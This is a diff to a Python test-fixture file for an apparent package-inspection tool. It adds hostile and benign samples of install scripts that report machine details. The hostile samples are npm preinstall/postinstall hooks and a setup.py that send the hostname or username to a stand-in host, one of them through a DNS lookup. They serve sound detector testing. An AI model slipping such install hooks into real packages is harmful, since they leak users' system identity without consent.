@@ -1,6 +1,6 @@
-"""Samples and twins of `targeted_code`: what decides is the machine, and what it decides about is code."""
+"""Samples and twins of `targeted_code` and `inventory_sent`: the machine decides, or is told about."""
 
-from inspection.rules.sample import Sample, js, py
+from inspection.rules.sample import Sample, js, package, py
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     "targeted_code": {
@@ -53,6 +53,34 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             ("a.sh", 2),
         ),
     },
+    "inventory_sent": {
+        "an install writes it to a request": Sample(
+            {
+                "package.json": package(preinstall="node a.js"),
+                "a.js": "const os = require('os');\nconst q = require('https').request('https://a.invalid');\n"
+                "const all = { a: 1,\n  name: os.hostname(),\n};\nq.write(JSON.stringify(all));\nq.end();\n",
+            },
+            "block",
+            ("a.js", 4),
+        ),
+        "an install looks its name up": Sample(
+            {
+                "package.json": package(postinstall="node a.js"),
+                "a.js": "const { userInfo } = require('os');\n"
+                "require('dns').lookup(`${userInfo().username}.a.invalid`, () => {});\n",
+            },
+            "block",
+            ("a.js", 2),
+        ),
+        "setup.py tells of its user": Sample(
+            {
+                "setup.py": "import getpass, requests\n"
+                "requests.post('https://a.invalid', json={'u': getpass.getuser()})\n"
+            },
+            "block",
+            ("setup.py", 2),
+        ),
+    },
 }
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
@@ -70,6 +98,21 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         },
         "a language chooses words": {
             "app.py": "import locale\nif locale.getlocale()[0] == 'ja_JP':\n    exec('greeting = 1')\n"
+        },
+    },
+    "inventory_sent": {
+        "it is written to the terminal": {
+            "package.json": package(preinstall="node a.js"),
+            "a.js": "const os = require('os');\nrequire('https').request('https://a.invalid').end();\n"
+            "process.stdout.write(JSON.stringify({ name: os.hostname() }));\n",
+        },
+        "an install fetches what fits the system": {
+            "package.json": package(postinstall="node a.js"),
+            "a.js": "const os = require('os');\nrequire('https').get(`https://a.invalid/${os.platform()}.json`);\n",
+        },
+        "a program says where it runs when it is run": {
+            "package.json": package(start="node a.js"),
+            "a.js": "const os = require('os');\nrequire('https').request('https://a.invalid').end(os.hostname());\n",
         },
     },
 }
